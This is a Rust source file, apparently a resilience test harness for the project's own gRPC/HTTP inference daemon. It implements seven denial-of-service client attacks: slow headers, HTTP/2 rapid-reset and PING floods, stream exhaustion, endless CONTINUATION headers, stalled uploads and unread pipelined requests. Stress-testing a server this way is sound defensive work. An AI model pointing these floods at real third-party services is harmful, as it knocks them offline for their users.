//! Clients that nobody wants: they stall, flood, or never end what they have begun.

use std::{
    io::{Read, Write},
    net::TcpStream,
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

/// What hostile clients do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// 200 clients announce 4 MB, send a part and stall; half of them over REST. One that is cut tries again after a
    /// second: at once, they would be a flood of a gigabyte a second and no longer stall.
    StalledUploads,
    /// 2,000 connections that send a byte of a header, and no more.
    SlowHeaders,
    /// Requests that are cancelled as soon as they are sent.
    Resets,
    /// PING frames as fast as they go.
    Pings,
    /// As many streams as a connection may have, of which none sends a body, on 20 connections.
    Streams,
    /// Headers of a megabyte, and headers that never end.
    Headers,
    /// Requests whose answers are not read.
    UnreadAnswers,
}

/// Where the daemon listens.
#[derive(Debug, Clone)]
pub struct Target {
    /// `grpc_address`.
    pub grpc: String,
    /// `http_address`.
    pub http: String,
}

const PATH: &[u8] = b"/ostar.v1.Inference/Predict";
const PAUSE: Duration = Duration::from_millis(20);

impl Attack {
    /// All of them.
    pub const ALL: [Self; 7] = [
        Self::StalledUploads,
        Self::SlowHeaders,
        Self::Resets,
        Self::Pings,
        Self::Streams,
        Self::Headers,
        Self::UnreadAnswers,
    ];

    /// Goes on until it is stopped. What the daemon closes is opened again.
    pub fn run(self, target: &Target, stop: &AtomicBool) {
        match self {
            Self::StalledUploads => stalled_uploads(target, stop),
            Self::SlowHeaders => slow_headers(target, stop),
            Self::Resets => flood(target, stop, |number| {
                let id = 2 * number + 1;
                [frame(1, 4, id, &headers()), frame(3, 0, id, &[0, 0, 0, 8])].concat()
            }),
            Self::Pings => flood(target, stop, |_| frame(6, 0, 0, &[7; 8])),
            Self::Streams => streams(target, stop),
            Self::Headers => endless_headers(target, stop),
            Self::UnreadAnswers => unread_answers(target, stop),
        }
    }
}

fn going(stop: &AtomicBool) -> bool {
    !stop.load(Ordering::Relaxed)
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The header block of a `Predict`, without compression.
fn headers() -> Vec<u8> {
    // POST, http, then `:path`, `content-type` and `te` as literals.
    let mut block = vec![0x83, 0x86, 0x04, PATH.len() as u8];
    block.extend(PATH);
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/grpc");
    block.extend([0x00, 2]);
    block.extend(b"te");
    block.push(8);
    block.extend(b"trailers");
    block
}

/// A connection after the preface.
fn http2(target: &Target) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(&target.grpc).ok()?;
    stream
        .set_write_timeout(Some(Duration::from_secs(1)))
        .ok()?;
    let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    first.extend(frame(4, 0, 0, &[]));
    stream.write_all(&first).ok()?;
    Some(stream)
}

/// Whether the daemon has ended the connection. Reads away what it has sent.
fn is_over(stream: &mut TcpStream) -> bool {
    let mut bytes = [0; 4096];
    if stream.set_nonblocking(true).is_err() {
        return true;
    }
    let over = loop {
        match stream.read(&mut bytes) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(error) => break error.kind() != std::io::ErrorKind::WouldBlock,
        }
    };
    over || stream.set_nonblocking(false).is_err()
}

/// Keeps `count` connections that `open` makes. One that is over is opened again when it is `pause` old or older.
fn keep(
    stop: &AtomicBool,
    count: usize,
    pause: Duration,
    open: impl Fn(usize) -> Option<TcpStream>,
) {
    let mut held: Vec<Option<(Instant, Option<TcpStream>)>> = (0..count).map(|_| None).collect();
    while going(stop) {
        for (number, slot) in held.iter_mut().enumerate() {
            if !going(stop) {
                return;
            }
            let is_due = slot.as_mut().is_none_or(|(opened, stream)| {
                stream.as_mut().is_none_or(is_over) && opened.elapsed() >= pause
            });
            if is_due {
                *slot = Some((Instant::now(), open(number)));
            }
        }
        thread::sleep(PAUSE);
    }
}

fn stalled_uploads(target: &Target, stop: &AtomicBool) {
    let grpc = || {
        let mut stream = http2(target)?;
        // 4 MB are announced. Less than the window that every server grants is sent.
        let body = [&[0, 0, 0x40, 0, 0][..], &[0; 15_000]].concat();
        let sent = [frame(1, 4, 1, &headers()), frame(0, 0, 1, &body)].concat();
        stream.write_all(&sent).ok()?;
        Some(stream)
    };
    let rest = || {
        let mut stream = TcpStream::connect(&target.http).ok()?;
        stream
            .set_write_timeout(Some(Duration::from_secs(1)))
            .ok()?;
        let head = "POST /v2/models/model/infer HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4000000\r\n\r\n";
        stream.write_all(head.as_bytes()).ok()?;
        // What the daemon does not read does not go out.
        let _ = stream.write_all(&vec![b' '; 2_000_000]);
        Some(stream)
    };
    let open = |number: usize| {
        if number.is_multiple_of(2) {
            grpc()
        } else {
            rest()
        }
    };
    keep(stop, 200, Duration::from_secs(1), open);
}

fn slow_headers(target: &Target, stop: &AtomicBool) {
    let addresses = [&target.http, &target.grpc];
    let open = |number: usize| {
        let mut stream = TcpStream::connect(addresses[number % 2]).ok()?;
        stream.write_all(b"P").ok()?;
        Some(stream)
    };
    keep(stop, 2_000, PAUSE, open);
}

fn flood(target: &Target, stop: &AtomicBool, frames: impl Fn(u32) -> Vec<u8>) {
    while going(stop) {
        let Some(mut stream) = http2(target) else {
            thread::sleep(PAUSE);
            continue;
        };
        let mut number = 0;
        while going(stop) {
            let batch: Vec<u8> = (0..100).flat_map(|n| frames(number + n)).collect();
            number += 100;
            if stream.write_all(&batch).is_err() || is_over(&mut stream) {
                break;
            }
        }
    }
}

fn streams(target: &Target, stop: &AtomicBool) {
    let open = |_| {
        let mut stream = http2(target)?;
        let all: Vec<u8> = (0..250)
            .flat_map(|n| frame(1, 4, 2 * n + 1, &headers()))
            .collect();
        stream.write_all(&all).ok()?;
        Some(stream)
    };
    keep(stop, 20, PAUSE, open);
}

fn endless_headers(target: &Target, stop: &AtomicBool) {
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    while going(stop) {
        if let Some(mut stream) = http2(target) {
            let _ = stream.write_all(&frame(1, 0, 1, &headers()));
            while going(stop) && stream.write_all(&frame(9, 0, 1, &field.repeat(50))).is_ok() {}
        }
        if let Ok(mut stream) = TcpStream::connect(&target.http) {
            let _ = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
            while going(stop) && stream.write_all(&[b'x'; 4096]).is_ok() {}
        }
    }
}

fn unread_answers(target: &Target, stop: &AtomicBool) {
    let open = |_| {
        let mut stream = TcpStream::connect(&target.http).ok()?;
        stream.set_write_timeout(Some(PAUSE)).ok()?;
        let many = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n".repeat(1_000);
        let _ = stream.write_all(&many);
        Some(stream)
    };
    // Only opened: looking whether they are over would read the answers.
    while going(stop) {
        let held: Vec<_> = (0..50).map(open).collect();
        for _ in 0..100 {
            if going(stop) {
                thread::sleep(PAUSE);
            }
        }
        drop(held);
    }
}
